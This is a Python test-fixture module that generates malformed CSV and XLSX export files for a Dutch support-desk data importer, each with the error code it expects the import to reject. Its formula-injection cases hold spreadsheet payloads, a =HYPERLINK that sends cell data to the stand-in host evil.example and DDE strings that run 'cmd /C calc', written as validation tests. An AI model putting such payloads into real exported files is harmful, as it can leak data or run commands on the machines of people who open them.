"""A corpus of malformed export files, generated in code: each with the reason it must be rejected for.

`CASES` maps a case name to (builder, expected reason code). A builder returns (file name, bytes);
every file would change the store if it were valid (its good rows are new), so "the store is
unchanged" after importing it proves the rejection. `registrations_csv` and friends build valid
files for the other tests.
"""
from __future__ import annotations

import codecs
import datetime as dt
import gzip
import io
import random
import zipfile
from pathlib import Path

import sqlalchemy as sa

from queries.store.schema import (
    Contact, PublishedCell, Registration, RegistrationQuestion, Session, Survey, Unit, WebsiteVisits,
)

EXAMPLES = Path(__file__).resolve().parents[2] / "docs" / "examples"
# What an import may change: every data table, and the published catalogue.
DATA_TABLES = (Unit, Registration, RegistrationQuestion, Session, Survey, Contact, WebsiteVisits, PublishedCell)

REG_HEADER = ["aanmelding_id", "aanmelddatum", "doelgroep", "eenheid", "geslacht", "leeftijdsklasse", "kanaal",
              "bekend_via", "vraagtypen", "anonimiteitswens", "reden_anonimiteit", "product", "datum_intake",
              "datum_afsluiting", "aantal_gesprekken", "wisselingen_hulpverlener", "tcl_afgenomen",
              "tcl_boven_afkapwaarde", "verwijzing", "werkstatus"]
SESSION_HEADER = ["gesprek_id", "aanmelding_id", "datum", "vorm", "hulpverlener_id", "evaluatiemoment"]
SURVEY_HEADER = ["enquete_id", "aanmelding_id", "datum_ingevuld", "rapportcijfer", "doelen_bereikt",
                 "verwachtingen_waargemaakt", "werk_hervat", "oordeel_bereikbaarheid", "oordeel_wachttijd",
                 "oordeel_deskundigheid", "oordeel_bejegening", "bekend_via"]
VISITS_HEADER = ["maand", "bezoeken", "nieuwe_bezoeken", "terugkerende_bezoeken"]


def fake_refresh(calls: list):
    """A stand-in for the catalogue refresh that counts its calls and, as the real one does in its
    transaction, clears the marks of the loads it publishes (queries/catalogue/refresh_due.py)."""
    from queries.catalogue import refresh_due

    def refresh(engine, policy):
        calls.append(policy)
        with engine.begin() as conn:
            refresh_due.clear(conn, refresh_due.seen(conn))
    return refresh


def registration(i: int, **overrides) -> dict:
    """A valid registration row (Dutch labels, dd-mm-yyyy) with id N<i>."""
    day = dt.date(2013, 1, 1) + dt.timedelta(days=i % 400)
    row = {
        "aanmelding_id": f"N{i:06d}", "aanmelddatum": day.strftime("%d-%m-%Y"), "doelgroep": "Politiemedewerker",
        "eenheid": ("Noord-Nederland", "Limburg", "Den Haag")[i % 3], "geslacht": ("Man", "Vrouw")[i % 2],
        "leeftijdsklasse": "35-44", "kanaal": "Telefoon", "bekend_via": "Collega",
        "vraagtypen": "PTSS of trauma|Werkdruk" if i % 2 else "Relatie", "anonimiteitswens": "nee",
        "reden_anonimiteit": "", "product": "2 Kortdurende hulp",
        "datum_intake": (day + dt.timedelta(days=7)).strftime("%d-%m-%Y"), "datum_afsluiting": "",
        "aantal_gesprekken": str(i % 6), "wisselingen_hulpverlener": "0", "tcl_afgenomen": "ja",
        "tcl_boven_afkapwaarde": "nee", "verwijzing": "", "werkstatus": "",
    }
    row.update(overrides)
    return row


def csv_text(header: list[str], rows: list[dict], sep: str = ";") -> str:
    def cell(v: str) -> str:
        return '"' + v.replace('"', '""') + '"' if (sep in v or '"' in v or "\n" in v) else v
    lines = [sep.join(header)] + [sep.join(cell(r.get(h, "")) for h in header) for r in rows]
    return "\r\n".join(lines) + "\r\n"


def registrations_csv(rows: list[dict], sep: str = ";", encoding: str = "utf-8-sig",
                      header: list[str] | None = None) -> bytes:
    return csv_text(header or REG_HEADER, rows, sep).encode(encoding)


def registrations(n: int = 5, start: int = 1, **overrides) -> list[dict]:
    return [registration(i, **overrides) for i in range(start, start + n)]


def session(i: int, registration_id: str = "R2013-0001", **overrides) -> dict:
    row = {"gesprek_id": f"T{i:06d}", "aanmelding_id": registration_id, "datum": "20-03-2013",
           "vorm": "Face-to-face", "hulpverlener_id": "C001", "evaluatiemoment": "nee"}
    row.update(overrides)
    return row


def xlsx_bytes(header: list[str], rows: list[list]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _with_bad(**overrides) -> bytes:
    """Four good new registrations and one with the given values."""
    return registrations_csv(registrations(4) + [registration(99, **overrides)])


def _field_limit() -> bytes:
    rows = registrations(3)
    text = csv_text(REG_HEADER, rows)
    return (text + 'N000099;"' + "x" * 200_000 + '";\r\n').encode("utf-8")


def _late_bad_byte() -> bytes:
    """More than the sniffed megabyte of valid UTF-8 rows, then a Windows-1252 byte."""
    rows = registrations(9_000)
    body = csv_text(REG_HEADER, rows).encode("utf-8")
    bad = csv_text(REG_HEADER, [registration(9_999, reden_anonimiteit="Priv\xe9zaak", anonimiteitswens="ja")])
    return body + bad.split("\r\n", 1)[1].encode("cp1252")


def _huge_with_one_bad_row(n: int = 20_000) -> bytes:
    rows = registrations(n)
    rows[-1] = registration(n, aanmelddatum="05-01-2013", datum_intake="01-01-2013")  # intake before registration, on the last line
    return registrations_csv(rows)


def _mixed_encodings() -> bytes:
    # UTF-8 labels, plus one row re-encoded as Windows-1252: the sniffer reads the file as Windows-1252
    good = csv_text(REG_HEADER, registrations(3, vraagtypen="Suïcidaal gedrag")).encode("utf-8")
    cp = csv_text(REG_HEADER, [registration(50, anonimiteitswens="ja", reden_anonimiteit="Privézaak")])
    return good + cp.split("\r\n", 1)[1].encode("cp1252")


def _zip_not_xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("aanmeldingen.csv", csv_text(REG_HEADER, registrations(2)))
    return out.getvalue()


def _corrupt_xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", "<not really xml")
        zf.writestr("xl/workbook.xml", "\x00\x01 garbage")
    return out.getvalue()


def _xlsx_formula() -> bytes:
    rows = [[registration(1)[h] for h in REG_HEADER]]
    bad = registration(2)
    bad["aanmelding_id"] = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    rows.append([bad[h] for h in REG_HEADER])
    return xlsx_bytes(REG_HEADER, rows)


def _xlsx_missing_column() -> bytes:
    header = [h for h in REG_HEADER if h != "product"]
    return xlsx_bytes(header, [[registration(1)[h] for h in header]])


def _junk(seed: int, n: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _junk_without_nul() -> bytes:
    rng = random.Random(7)
    return bytes(rng.randrange(1, 256) for _ in range(300))


def _sessions(rows: list[dict]) -> bytes:
    return csv_text(SESSION_HEADER, rows).encode("utf-8")


def _surveys(**overrides) -> bytes:
    row = {"enquete_id": "Q-9001", "aanmelding_id": "R2013-0001", "datum_ingevuld": "03-06-2013",
           "rapportcijfer": "8", "doelen_bereikt": "Ja", "verwachtingen_waargemaakt": "ja", "werk_hervat": "ja",
           "oordeel_bereikbaarheid": "9", "oordeel_wachttijd": "7", "oordeel_deskundigheid": "8",
           "oordeel_bejegening": "9", "bekend_via": "Collega"}
    row.update(overrides)
    good = dict(row, enquete_id="Q-9000")
    return csv_text(SURVEY_HEADER, [good, row]).encode("utf-8")


def _visits(**overrides) -> bytes:
    row = {"maand": "okt 2012", "bezoeken": "500", "nieuwe_bezoeken": "430", "terugkerende_bezoeken": "70"}
    row.update(overrides)
    good = {"maand": "nov 2012", "bezoeken": "510", "nieuwe_bezoeken": "440", "terugkerende_bezoeken": "70"}
    return csv_text(VISITS_HEADER, [good, row]).encode("utf-8")


def _month_two_ways() -> bytes:
    """One month as yyyy-mm and as a month name: one key, so both rows are duplicates (not the last wins)."""
    rows = [{"maand": "2013-03", "bezoeken": "500", "nieuwe_bezoeken": "430", "terugkerende_bezoeken": "70"},
            {"maand": "apr 2013", "bezoeken": "510", "nieuwe_bezoeken": "440", "terugkerende_bezoeken": "70"},
            {"maand": "mrt 2013", "bezoeken": "520", "nieuwe_bezoeken": "450", "terugkerende_bezoeken": "70"}]
    return csv_text(VISITS_HEADER, rows).encode("utf-8")


def _unit_code_and_name() -> bytes:
    return b"eenheid;formatie;startdatum_loket\r\nLB;3.800;\r\nNN;4.400;\r\nNoord-Nederland;4.500;\r\n"


def _xlsx_several_types() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = "Aanmeldingen"
    book.active.append(REG_HEADER)
    book.active.append([registration(1)[h] for h in REG_HEADER])
    sessions = book.create_sheet("Gesprekken")
    sessions.append(SESSION_HEADER)
    sessions.append([session(1)[h] for h in SESSION_HEADER])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _reg(name: str, data: bytes) -> tuple[str, bytes]:
    return name, data


CASES: dict[str, tuple] = {
    # the file as a whole
    "empty file": (lambda: ("leeg.csv", b""), "empty_file"),
    "only blank lines": (lambda: ("leeg.csv", b"\r\n  \r\n\r\n"), "empty_file"),
    "header without rows": (lambda: ("kop.csv", registrations_csv([])), "no_rows"),
    "binary junk": (lambda: ("junk.csv", _junk(1, 4096)), "binary"),
    "binary junk without NUL bytes": (lambda: ("junk.csv", _junk_without_nul()), "binary"),
    "a PDF": (lambda: ("export.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\x00\nendobj\n"), "binary"),
    "a gzip-compressed CSV": (lambda: ("export.csv.gz", gzip.compress(registrations_csv(registrations(3)))), "binary"),
    "UTF-16 with BOM (Excel Unicode text)": (
        lambda: ("unicode.txt", codecs.BOM_UTF16_LE + csv_text(REG_HEADER, registrations(3), "\t").encode("utf-16-le")),
        "utf16"),
    "UTF-16 without BOM": (lambda: ("unicode.csv", csv_text(REG_HEADER, registrations(3)).encode("utf-16-le")), "utf16"),
    "old Excel .xls": (lambda: ("oud.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600), "old_excel"),
    "a ZIP that is no workbook": (lambda: ("export.zip", _zip_not_xlsx()), "not_xlsx"),
    "a damaged workbook": (lambda: ("kapot.xlsx", _corrupt_xlsx()), "bad_xlsx"),
    "tab-separated": (lambda: ("tab.csv", csv_text(REG_HEADER, registrations(3), "\t").encode()), "separator"),
    "a sep= line naming tabs": (lambda: ("sep.csv", b"sep=\t\r\n" + registrations_csv(registrations(3))), "separator"),
    "a workbook with sheets for several file types": (lambda: ("twee.xlsx", _xlsx_several_types()), "several_sheets"),
    "pipe-separated": (lambda: ("pipe.csv", csv_text(REG_HEADER, registrations(3), "|").encode()), "separator"),
    "header with ; but rows with ,": (
        lambda: ("mix.csv", (";".join(REG_HEADER) + "\r\n" + csv_text(REG_HEADER, registrations(3), ",").split("\r\n", 1)[1]).encode()),
        "field_count"),
    "a row with too few fields": (
        lambda: ("kort.csv", registrations_csv(registrations(3)) + b"N000777;01-02-2013;Politiemedewerker\r\n"),
        "field_count"),
    "missing column": (lambda: ("mist.csv", registrations_csv(registrations(3), header=REG_HEADER[:-1])),
                       "missing_columns"),
    "extra column": (lambda: ("extra.csv", registrations_csv(registrations(3), header=REG_HEADER + ["naam"])),
                     "unknown_columns"),
    "repeated column": (lambda: ("dubbel.csv", registrations_csv(registrations(3), header=REG_HEADER + ["product"])),
                        "duplicate_column"),
    "unknown header": (lambda: ("iets.csv", b"naam;adres;woonplaats\r\nJan;Straat 1;Utrecht\r\n"), "unknown_header"),
    "a field larger than the CSV limit (huge line)": (lambda: ("groot.csv", _field_limit()), "malformed_csv"),
    # encodings
    "mixed encodings (UTF-8 and Windows-1252)": (lambda: ("gemengd.csv", _mixed_encodings()), "unknown_code"),
    "invalid UTF-8 after the first megabyte": (lambda: ("laat.csv", _late_bad_byte()), "encoding"),
    "byte undefined in Windows-1252": (
        lambda: ("cp.csv", registrations_csv(registrations(2) + [registration(3, eenheid="Limburg\x81")],
                                             encoding="latin-1")), "encoding"),
    "control characters in an id": (lambda: ("ctrl.csv", _with_bad(aanmelding_id="N\x07000099")), "control_chars"),
    # codes
    "unknown code": (lambda: ("code.csv", _with_bad(doelgroep="Politieagent")), "unknown_code"),
    "unknown question type": (lambda: ("vraag.csv", _with_bad(vraagtypen="Werkdruk|Heimwee")), "unknown_code"),
    # dates
    "impossible date (31 February)": (lambda: ("datum.csv", _with_bad(aanmelddatum="31-02-2014")), "no_such_date"),
    "intake before registration": (
        lambda: ("intake.csv", _with_bad(aanmelddatum="10-03-2014", datum_intake="03-03-2014")),
        "intake_before_registration"),
    "closed before registration": (
        lambda: ("sluit.csv", _with_bad(aanmelddatum="10-03-2014", datum_intake="", datum_afsluiting="01-03-2014")),
        "closed_before_registration"),
    "closed before intake": (
        lambda: ("sluit2.csv", _with_bad(aanmelddatum="10-03-2014", datum_intake="20-03-2014",
                                         datum_afsluiting="15-03-2014")), "closed_before_intake"),
    "date in the future": (lambda: ("toekomst.csv", _with_bad(aanmelddatum="01-01-2999", datum_intake="")), "future"),
    "full-width digits in a date": (lambda: ("breed.csv", _with_bad(aanmelddatum="０４-０３-２０１４", datum_intake="")),
                                    "unicode_digits"),
    "Arabic-Indic digits in a date": (lambda: ("arabisch.csv", _with_bad(aanmelddatum="٠٤-٠٣-٢٠١٤", datum_intake="")),
                                      "unicode_digits"),
    "full-width digits in a number": (lambda: ("breed2.csv", _with_bad(aantal_gesprekken="３")), "unicode_digits"),
    "date before the Loket existed": (lambda: ("vroeg.csv", _with_bad(aanmelddatum="01-01-2010", datum_intake="")),
                                      "too_early"),
    "two-digit year": (lambda: ("jaar.csv", _with_bad(aanmelddatum="01-03-14")), "two_digit_year"),
    "not a date": (lambda: ("geen.csv", _with_bad(aanmelddatum="gisteren")), "not_date"),
    "not a month": (lambda: ("maand.csv", _visits(maand="15-10-2012")), "not_month"),
    "timestamp without time": (
        lambda: ("contact.csv", b"contact_id;tijdstip;kanaal;eenheid;doelgroep;leidde_tot_aanmelding\r\n"
                                b"K1;04-03-2013 09:12;Telefoon;;;nee\r\nK2;04-03-2013;Telefoon;;;nee\r\n"), "not_datetime"),
    # duplicates, ids, references
    "duplicate ids within a file": (
        lambda: ("dubbel.csv", registrations_csv(registrations(5) + [registration(2, geslacht="Vrouw")])), "duplicate"),
    "a month written two ways": (lambda: ("maanden.csv", _month_two_ways()), "duplicate_key"),
    "a unit as its code and its name": (lambda: ("eenheden.csv", _unit_code_and_name()), "duplicate_key"),
    "id too long": (lambda: ("lang.csv", _with_bad(aanmelding_id="N" * 65)), "bad_id"),
    "id with spaces": (lambda: ("spatie.csv", _with_bad(aanmelding_id="N 12")), "bad_id"),
    "session of an unknown registration": (
        lambda: ("gesprekken.csv", _sessions([session(1), session(2, "R-GIBT-ES-NICHT")])), "unknown_registration"),
    "session before its registration": (
        lambda: ("gesprekken.csv", _sessions([session(1), session(2, datum="01-03-2013")])), "before_registration"),
    "session long after its registration was closed": (  # R2013-0001 was closed on 22-05-2013
        lambda: ("gesprekken.csv", _sessions([session(1), session(2, datum="02-09-2013")])), "after_closure"),
    # formula injection
    "formula =HYPERLINK in an id": (
        lambda: ("formule.csv", _with_bad(aanmelding_id='=HYPERLINK("http://evil.example";"klik")')), "formula"),
    "formula @SUM in a code column": (lambda: ("formule2.csv", _with_bad(doelgroep="@SUM(1+1)*cmd|' /C calc'!A0")),
                                      "formula"),
    "formula +cmd in a counsellor id": (
        lambda: ("gesprekken.csv", _sessions([session(1), session(2, hulpverlener_id="+cmd|' /C calc'!A0")])),
        "formula"),
    "formula -2+3 in a number": (lambda: ("formule3.csv", _with_bad(aantal_gesprekken="-2+3")), "formula"),
    "formula in an XLSX cell": (lambda: ("formule.xlsx", _xlsx_formula()), "formula"),
    # numbers, yes/no, required
    "negative count": (lambda: ("neg.csv", _with_bad(aantal_gesprekken="-1")), "out_of_range"),
    "not a whole number": (lambda: ("getal.csv", _with_bad(aantal_gesprekken="vijf")), "not_integer"),
    "decimal where a whole number is needed": (lambda: ("getal2.csv", _with_bad(aantal_gesprekken="2,5")), "not_integer"),
    "grade out of range": (lambda: ("cijfer.csv", _surveys(rapportcijfer="11")), "out_of_range"),
    "not yes or no": (lambda: ("janee.csv", _with_bad(anonimiteitswens="misschien")), "not_bool"),
    "required value missing": (lambda: ("leeg.csv", _with_bad(product="")), "required"),
    "anonymity reason without the wish": (lambda: ("anon.csv", _with_bad(reden_anonimiteit="Privézaak")),
                                          "reason_without_wish"),
    "TCL result without TCL": (lambda: ("tcl.csv", _with_bad(tcl_afgenomen="nee", tcl_boven_afkapwaarde="ja")),
                               "tcl_result_without_tcl"),
    "visits that do not add up": (lambda: ("bezoek.csv", _visits(bezoeken="600")), "visits_sum"),
    "XLSX with a missing column": (lambda: ("mist.xlsx", _xlsx_missing_column()), "missing_columns"),
    # size
    "a huge file with one bad row at the end": (lambda: ("groot.csv", _huge_with_one_bad_row()),
                                                "intake_before_registration"),
}


def snapshot(engine) -> dict[str, list[tuple]]:
    """Every row of every data table (and the published catalogue), in a stable order."""
    out = {}
    with engine.connect() as conn:
        for model in DATA_TABLES:
            table = model.__table__
            out[table.name] = [tuple(r) for r in conn.execute(sa.select(table).order_by(*table.primary_key.columns))]
    return out
